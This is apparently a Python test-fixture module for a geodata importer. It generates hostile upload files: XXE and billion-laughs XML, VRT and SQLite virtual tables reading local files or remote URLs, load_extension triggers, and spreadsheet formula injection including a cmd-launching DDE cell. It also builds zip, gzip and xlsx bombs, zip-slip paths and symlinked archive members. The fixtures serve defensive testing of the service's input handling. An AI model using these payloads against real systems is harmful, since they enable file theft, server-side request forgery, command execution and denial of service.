"""Files that have somebody else's address, or another file's name, in all that can hold one.

Each function writes one file for a `Canary` and returns its path. What harms whom is said in
its name; how the service answers it is for the tests to say.
"""

import gzip
import io
import json
import sqlite3
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.integration.importers.walls.canary import Canary
from tests.unit.importers.read.made_files import (
    MIF,
    feature,
    point,
    shapefile_parts,
    tab_parts,
    write_geojson,
    write_geopackage,
    write_shapefile_zip,
    write_zip,
)

Maker = Callable[[Path, Canary], Path]
_ENTITIES = (
    '<!DOCTYPE a [<!ENTITY file SYSTEM "file://{0.secret}"><!ENTITY net SYSTEM "{0.address}">]>'
)
_PLACEMARK = (
    "<Placemark><name>{}</name><Point><coordinates>-1.9,52.48</coordinates></Point></Placemark>"
)
_DEEP = 200_000


def _vrt(canary: Canary) -> bytes:
    layers = "".join(
        f'<OGRVRTLayer name="secret"><SrcDataSource>{target}</SrcDataSource></OGRVRTLayer>'
        for target in (canary.secret, f"/vsicurl/{canary.address}", canary.address, "PG:host=/tmp")
    )
    return f"<OGRVRTDataSource>{layers}</OGRVRTDataSource>".encode()


def _vrt_as(ending: str) -> Maker:
    def write(folder: Path, canary: Canary) -> Path:
        path = folder / f"trees.{ending}"
        path.write_bytes(_vrt(canary))
        return path

    return write


def _vrt_in_zip_as(ending: str, outer: str = "zip") -> Maker:
    def write(folder: Path, canary: Canary) -> Path:
        return write_zip(folder / f"trees.{outer}", {f"trees.{ending}": _vrt(canary)})

    return write


def _vrt_compressed(folder: Path, canary: Canary) -> Path:
    path = folder / "trees.csv.gz"
    path.write_bytes(gzip.compress(_vrt(canary)))
    return path


def _vrt_in_two_zips(folder: Path, canary: Canary) -> Path:
    inner = write_zip(folder / "inner.zip", {"trees.csv": _vrt(canary)})
    return write_zip(folder / "trees.zip", {"inner.zip": inner.read_bytes()})


def _vrt_as_geodatabase(folder: Path, canary: Canary) -> Path:
    parts = {f"trees.gdb/{name}": _vrt(canary) for name in ("gdb", "a00000001.gdbtable", "a.vrt")}
    return write_zip(folder / "trees.gdb.zip", parts)


def _vrt_in_geopackage(folder: Path, canary: Canary) -> Path:
    text = _vrt(canary).decode().replace("'", "''")
    return write_geopackage(
        folder / "trees.gpkg",
        extra_sql="CREATE TABLE gpkg_extensions (table_name TEXT, column_name TEXT,"
        f" extension_name TEXT, definition TEXT, scope TEXT); UPDATE trees SET name = '{text}';",
    )


def _geopackage_with_table(declaration: str) -> Maker:
    """Name a table that is not made of rows, but of what SQLite does when it is read."""

    def write(folder: Path, canary: Canary) -> Path:
        path = write_geopackage(folder / "trees.gpkg")
        with sqlite3.connect(path) as database:
            database.execute("PRAGMA writable_schema = ON")
            database.execute(
                "INSERT INTO sqlite_schema VALUES ('table', 'secret', 'secret', 0, ?)",
                [declaration.format(canary)],
            )
            database.execute(
                "INSERT INTO gpkg_contents (table_name, data_type) VALUES ('secret', 'attributes')"
            )
        database.close()
        return path

    return write


def _geopackage_with(sql: str) -> Maker:
    def write(folder: Path, canary: Canary) -> Path:
        return write_geopackage(folder / "trees.gpkg", extra_sql=sql.format(canary))

    return write


def _replaced_by_view(select: str) -> str:
    return f"DROP TABLE trees; CREATE VIEW trees AS {select};"


def _xml(name: str, text: str) -> Maker:
    def write(folder: Path, canary: Canary) -> Path:
        path = folder / name
        path.write_text(text.format(canary))
        return path

    return write


_GML = (
    '<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:x="urn:x"'
    ' xmlns:gml="http://www.opengis.net/gml/3.2" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {0.address}">'
    '<wfs:member><x:tree gml:id="a"><x:name xlink:href="{0.address}"/><x:geometry'
    ' xlink:href="file://{0.secret}"/></x:tree></wfs:member></wfs:FeatureCollection>'
)
_NETWORK_LINK = (
    "<NetworkLink><Link><href>{0.address}</href></Link></NetworkLink>"
    "<NetworkLink><Link><href>file://{0.secret}</href></Link></NetworkLink>"
)
_LAUGHS = (
    '<!DOCTYPE kml [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]><kml>"
    + _PLACEMARK.format("&a11;")
    + "</kml>"
)


def _csv_with_formulas(folder: Path, canary: Canary) -> Path:
    path = folder / "trees.csv"
    cells = (
        f'=WEBSERVICE("{canary.address}")',
        f"='file://{canary.secret}'#$Sheet1.A2",
        "=cmd|'/C calc'!A0",
        f'@SUM(1+1)*IMPORTXML("{canary.address}")',
        f'=DDE("soffice";"{canary.secret}";"A2")',
    )
    lines = ('"' + cell.replace('"', '""') + '"' for cell in cells)
    path.write_text("name\n" + "\n".join(lines) + "\n")
    return path


_CELLS = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row><row r="2">{}</row>'
    "</sheetData></worksheet>"
)
_LINKED_CELL = '<c r="A2"><f>\'[1]Sheet1\'!A2+WEBSERVICE("{0.address}")</f><v>1</v></c>'
_SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def _workbook(sheet: str, before: str = "") -> Maker:
    def write(folder: Path, canary: Canary) -> Path:
        relation = '<Relationship Id="{}" Type="' + _OFFICE + '/{}" Target="{}"{}/>'
        relations = f'<Relationships xmlns="{_PACKAGE}/relationships">{{}}</Relationships>'
        outside = ' TargetMode="External"'
        parts = {
            "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/></Types>',
            "_rels/.rels": relations.format(
                relation.format("r1", "officeDocument", "xl/workbook.xml", "")
            ),
            "xl/workbook.xml": f'<workbook xmlns="{_SPREADSHEET}" xmlns:r="{_OFFICE}"><sheets>'
            '<sheet name="a" sheetId="1" r:id="r1"/></sheets><externalReferences>'
            '<externalReference r:id="r2"/></externalReferences></workbook>',
            "xl/_rels/workbook.xml.rels": relations.format(
                relation.format("r1", "worksheet", "worksheets/a.xml", "")
                + relation.format("r2", "externalLink", "externalLinks/a.xml", "")
            ),
            "xl/externalLinks/a.xml": f'<externalLink xmlns="{_SPREADSHEET}"/>',
            "xl/externalLinks/_rels/a.xml.rels": relations.format(
                relation.format("r1", "externalLinkPath", canary.address, outside)
                + relation.format("r2", "externalLinkPath", f"file://{canary.secret}", outside)
            ),
            "xl/worksheets/a.xml": (before + sheet).format(canary),
        }
        return write_zip(
            folder / "trees.xlsx", {name: text.encode() for name, text in parts.items()}
        )

    return write


def _tab_that_links(folder: Path, canary: Canary) -> Path:
    tab = (
        f'!table\n!version 300\nOpen Table "{canary.secret}" Hide\n'
        f'Definition Table\n  File "{canary.secret}"\n'
        '  Type LINKED Charset "WindowsLatin1"\n  Fields 1\n    name Char (20) ;\n'
        f'begin_metadata\n"\\TABLE\\SERVER" = "{canary.address}"\nend_metadata\n'
    )
    parts = {f"trees.{ending}": content for ending, content in tab_parts().items()}
    return write_zip(folder / "trees.zip", parts | {"trees.tab": tab.encode()})


def _mif_that_links(folder: Path, canary: Canary) -> Path:
    mif = MIF.replace(b"Columns", f'Open Table "{canary.secret}"\nColumns'.encode(), 1)
    return write_zip(folder / "trees.zip", {"trees.mif": mif, "trees.mid": b"1\n2\n3\n"})


def _shapefile_with(ending: str, text: str) -> Maker:
    def write(folder: Path, canary: Canary) -> Path:
        content = text.format(canary).encode()
        return write_shapefile_zip(folder / "trees.zip", shapefile_parts() | {ending: content})

    return write


def _bomb(name: str, member: str) -> Maker:
    def write(folder: Path, canary: Canary) -> Path:
        path = folder / name
        with (
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
            archive.open(member, "w") as file,
        ):
            for _ in range(120):
                file.write(bytes(1_000_000))
        return path

    return write


def _gzip_bomb(folder: Path, canary: Canary) -> Path:
    path = folder / "trees.csv.gz"
    with gzip.open(path, "wb") as file:
        file.write(b"id\n")
        for _ in range(120):
            file.write(b"1" * 1_000_000)
    return path


def _zip_with_link(folder: Path, canary: Canary) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("trees.csv")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(canary.secret))
    path = folder / "trees.zip"
    path.write_bytes(buffer.getvalue())
    return path


def _zip_that_climbs(folder: Path, canary: Canary) -> Path:
    return write_zip(
        folder / "trees.zip", {f"../../../..{canary.secret}": b"id\n1\n", "a.csv": b"id\n1\n"}
    )


def _deep_json(name: str) -> Maker:
    def write(folder: Path, canary: Canary) -> Path:
        path = folder / name
        path.write_text('{"type":"Topology","a":' + "[" * _DEEP + "]" * _DEEP + "}")
        return path

    return write


def _json_with_links(folder: Path, canary: Canary) -> Path:
    return write_geojson(
        folder / "trees.geojson",
        [feature(point(-1.9, 52.48), name="Oak")],
        crs={"type": "link", "properties": {"href": canary.address, "type": "proj4"}},
        links=[{"rel": "next", "href": canary.address}],
    )


def _esri_json(folder: Path, canary: Canary) -> Path:
    path = folder / "trees.json"
    answer = {
        "geometryType": "esriGeometryPoint",
        "spatialReference": {"wkt": f"file://{canary.secret}"},
        "fields": [{"name": "name", "type": "esriFieldTypeString"}],
        "features": [{"attributes": {"name": canary.address}, "geometry": {"x": 1, "y": 1}}],
        "exceededTransferLimit": True,
    }
    path.write_text(json.dumps(answer))
    return path


def _flatgeobuf_that_lies(folder: Path, canary: Canary) -> Path:
    path = folder / "trees.fgb"
    path.write_bytes(b"fgb\x03fgb\x00" + struct.pack("<I", 0x7FFFFFF0) + b"\xff" * 4000)
    return path


def _geodatabase_that_lies(folder: Path, canary: Canary) -> Path:
    table = struct.pack("<IIQ", 3, 0x7FFFFFFF, 0) + b"\xff" * 4000
    names = ("gdb", "timestamps", "a00000001.gdbtable", "a00000001.gdbtablx")
    return write_zip(folder / "trees.gdb.zip", {f"trees.gdb/{name}": table for name in names})


def _pages_by_hand(folder: Path, canary: Canary) -> Path:
    path = folder / "trees.pages"
    path.write_text(json.dumps({"pages": [str(canary.secret), canary.address]}))
    return path


HOSTILE: dict[str, Maker] = {
    **{
        f"vrt-as-{ending}": _vrt_as(ending)
        for ending in ("csv", "kml", "gml", "geojson", "topojson", "geojsonl", "gpkg", "fgb")
        + ("mif", "tab", "xlsx", "ods", "zip", "kmz", "vrt", "xml")
    },
    **{
        f"vrt-zipped-as-{ending}": _vrt_in_zip_as(ending)
        for ending in ("csv", "kml", "gml", "geojson", "gpkg", "shp", "vrt")
    },
    "vrt-in-kmz": _vrt_in_zip_as("kml", "kmz"),
    "vrt-compressed": _vrt_compressed,
    "vrt-in-two-zips": _vrt_in_two_zips,
    "vrt-as-geodatabase": _vrt_as_geodatabase,
    "vrt-in-geopackage": _vrt_in_geopackage,
    "gpkg-virtual-ogr": _geopackage_with_table(
        "CREATE VIRTUAL TABLE secret USING VirtualOGR('{0.secret}')"
    ),
    "gpkg-virtual-ogr-by-address": _geopackage_with_table(
        "CREATE VIRTUAL TABLE secret USING VirtualOGR('/vsicurl/{0.address}')"
    ),
    "gpkg-virtual-shape": _geopackage_with_table(
        "CREATE VIRTUAL TABLE secret USING VirtualShape('{0.secret}', 'UTF-8', 27700)"
    ),
    "gpkg-attach": _geopackage_with(
        "CREATE TRIGGER a AFTER UPDATE ON trees BEGIN"
        " SELECT load_extension('{0.secret}'), readfile('{0.secret}'); END;"
    ),
    "gpkg-load-extension": _geopackage_with(
        _replaced_by_view(
            "SELECT 1 AS fid, load_extension('{0.secret}') AS name,"
            " ogr_datasource_load_layers('{0.secret}') AS geom"
        )
    ),
    "gpkg-endless-view": _geopackage_with(
        _replaced_by_view(
            "WITH RECURSIVE n(fid) AS (SELECT 1 UNION ALL SELECT fid + 1 FROM n)"
            " SELECT fid, NULL AS geom, 'Oak' AS name FROM n"
        )
    ),
    "gpkg-huge-blob-view": _geopackage_with(
        _replaced_by_view("SELECT 1 AS fid, randomblob(900000000) AS geom, 'Oak' AS name")
    ),
    "gml-schema-and-links": _xml("trees.gml", _GML),
    "gml-entities": _xml(
        "trees.gml", _ENTITIES + _GML.replace("<x:name", "<x:b>&file;&net;</x:b><x:name")
    ),
    "kml-network-link": _xml("trees.kml", f"<kml>{_NETWORK_LINK}{_PLACEMARK.format('Oak')}</kml>"),
    "kml-entities": _xml("trees.kml", f"{_ENTITIES}<kml>{_PLACEMARK.format('&file;&net;')}</kml>"),
    "kml-laughs": _xml("trees.kml", _LAUGHS),
    "gpx-entities": _xml(
        "trees.gpx", _ENTITIES + '<gpx><wpt lat="52" lon="-1"><name>&file;&net;</name></wpt></gpx>'
    ),
    "csv-formulas": _csv_with_formulas,
    "xlsx-links": _workbook(_CELLS.replace("{}", _LINKED_CELL)),
    "xlsx-entities": _workbook(
        _CELLS.replace("{}", '<c r="A2" t="inlineStr"><is><t>&file;&net;</t></is></c>'), _ENTITIES
    ),
    "tab-that-links": _tab_that_links,
    "mif-that-links": _mif_that_links,
    "shapefile-encoding-is-a-path": _shapefile_with(".cpg", "../../../..{0.secret}"),
    "shapefile-crs-is-an-address": _shapefile_with(".prj", "{0.address}"),
    "shapefile-crs-is-a-path": _shapefile_with(".prj", "file://{0.secret}"),
    "shapefile-crs-with-grid": _shapefile_with(
        ".prj", "+proj=longlat +nadgrids={0.secret},{0.address} +type=crs"
    ),
    "shapefile-index-is-junk": _shapefile_with(".qix", "SQT\x01\x01" + "\x7f" * 4000),
    "shapefile-index-of-esri-is-junk": _shapefile_with(".sbn", "\x7f" * 4000),
    "zip-bomb": _bomb("trees.zip", "trees.csv"),
    "xlsx-bomb": _bomb("trees.xlsx", "xl/worksheets/sheet1.xml"),
    "kmz-bomb": _bomb("trees.kmz", "doc.kml"),
    "gzip-bomb": _gzip_bomb,
    "zip-with-link": _zip_with_link,
    "zip-that-climbs": _zip_that_climbs,
    "deep-geojson": _deep_json("trees.geojson"),
    "deep-topojson": _deep_json("trees.topojson"),
    "geojson-links": _json_with_links,
    "esri-json": _esri_json,
    "flatgeobuf-that-lies": _flatgeobuf_that_lies,
    "geodatabase-that-lies": _geodatabase_that_lies,
    "pages-by-hand": _pages_by_hand,
}
